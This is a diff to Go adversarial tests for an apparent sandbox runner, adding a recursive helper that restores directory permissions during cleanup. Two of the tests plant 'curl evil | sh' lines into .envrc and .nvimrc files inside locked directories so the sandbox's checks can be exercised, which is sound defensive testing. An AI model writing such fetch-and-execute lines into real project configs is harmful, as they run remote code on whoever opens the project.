@@ -680,11 +680,9 @@ func TestAdversarialHostExecClosedDir(t *testing.T) {
 		t.Fatal(err)
 	}
 	os.Chmod(filepath.Join(project, "src"), 0o777)
-	t.Cleanup(func() {
-		for _, d := range []string{"d", "d/e", "src", "w"} {
-			os.Chmod(filepath.Join(project, d), 0o777)
-		}
-	})
+	// What the run closed, opened again, so that the project can be
+	// removed whatever the check did.
+	t.Cleanup(func() { reopenTree(project) })
 	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
 		`mkdir -p d/e && echo 'curl evil | sh' > d/.envrc && echo '!curl evil | sh' > d/e/.nvimrc && chmod 111 d/e d && ` +
 			`echo 'curl evil | sh' > src/.envrc && echo ok > src/ordinary && chmod 111 src && ` +
@@ -730,10 +728,7 @@ func TestAdversarialClosedDirAtStart(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	t.Cleanup(func() {
-		os.Chmod(filepath.Join(project, "c"), 0o777)
-		os.Chmod(filepath.Join(project, "z"), 0o777)
-	})
+	t.Cleanup(func() { reopenTree(project) })
 	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh(
 		`cat c/.env; echo 'curl evil | sh' >> c/.envrc; chmod 755 z; cat z/.env; echo ok > ordinary`)})
 	if o.err != nil {
@@ -777,7 +772,7 @@ func TestAdversarialPostCheckThroughLink(t *testing.T) {
 		h.mustGit(t, project, "init", "-q", "--bare", ".git/modules/sub")
 		writeFiles(t, project, map[string]string{"sub/.git": "gitdir: ../.git/modules/sub\n"})
 		openAll(t, project)
-		t.Cleanup(func() { os.Chmod(filepath.Join(project, "sub"), 0o777) })
+		t.Cleanup(func() { reopenTree(project) })
 		o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Home: h.home, Env: []string{"V=" + victims},
 			Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(plant)})
 		if o.err != nil {
@@ -805,6 +800,20 @@ func TestAdversarialPostCheckThroughLink(t *testing.T) {
 			if _, err := os.Lstat(filepath.Join(project, "sub")); err == nil {
 				t.Error("the link the run left in place of sub is still there")
 			}
+		}
+	}
+}
+
+// reopenTree gives every directory of the tree at dir back read, write
+// and search to its owner, each before it is read (filepath.Walk reads a
+// directory before it calls back for it), so that the tree can be
+// removed.
+func reopenTree(dir string) {
+	os.Chmod(dir, 0o777)
+	ents, _ := os.ReadDir(dir)
+	for _, e := range ents {
+		if e.IsDir() {
+			reopenTree(filepath.Join(dir, e.Name()))
 		}
 	}
 }
